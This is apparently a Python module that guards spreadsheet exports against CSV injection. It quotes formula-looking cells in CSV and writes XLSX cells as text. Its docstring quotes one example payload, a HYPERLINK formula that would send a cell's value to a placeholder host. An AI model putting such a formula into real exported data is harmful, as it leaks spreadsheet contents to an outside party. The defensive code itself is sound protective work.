"""Cells a spreadsheet shows as data and never runs: CSV text and XLSX cells from input.

The rule is OWASP's for CSV injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return (also after leading spaces or quotes, which Excel and LibreOffice skip) is
read as a formula, so `=HYPERLINK("http://x/"&A1,"x")` in a visit id would be live in the
dispatcher's sheet. In CSV such a cell is prefixed with a single quote. In XLSX every cell from
input is a text cell, and a formula-looking one also carries Excel's own quote prefix (the
`quotePrefix` style Excel sets when a user types `'=…`): it shows the text unchanged, and stays
text when someone edits it. Numbers the exporter writes itself stay numbers.
"""

from __future__ import annotations

import io
from collections.abc import Iterable, Sequence

type Value = str | int | float | None

#: What makes a spreadsheet read a cell as a formula (full-width forms too, which some
#: input methods type for the ASCII ones).
_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
#: What a spreadsheet skips before it looks for a formula.
_SKIPPED = frozenset("'\"‘’“”")


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet could take `text` for a formula."""
    if not text:
        return False
    if text[0] in _TRIGGERS:
        return True
    for ch in text:
        if ch.isspace() or ch in _SKIPPED:
            continue
        return ch in _TRIGGERS
    return False


def csv_text(text: str) -> str:
    """`text` as a CSV cell a spreadsheet shows as it is: a formula gets a leading quote."""
    return "'" + text if looks_like_formula(text) else text


def csv_row(values: Iterable[Value]) -> list[str | int | float]:
    """A row for `csv.writer`: text neutralised, numbers kept, None as an empty cell."""
    return [csv_text(v) if isinstance(v, str) else "" if v is None else v for v in values]


def table_xlsx(title: str, headers: Sequence[str], rows: Iterable[Sequence[Value]],
               widths: Sequence[float]) -> bytes:
    """One sheet: bold headers, frozen header row, column widths; input cells as text.

    Text cells are written as text type (never a formula, whatever they start with); ints and
    floats as numbers; None as an empty cell.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = title
    ws.append(list(headers))
    for cell in ws[1]:
        cell.font = Font(bold=True)
    for r, row in enumerate(rows, start=2):
        for c, value in enumerate(row, start=1):
            if value is None:
                continue
            cell = ws.cell(row=r, column=c)
            if isinstance(value, int | float) and not isinstance(value, bool):
                cell.value = value
            else:
                cell.value = str(value)
                cell.data_type = "s"  # text, even when it starts with "="
                if looks_like_formula(cell.value):
                    cell.quotePrefix = True
    for c, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(c)].width = width
    ws.freeze_panes = "A2"
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()
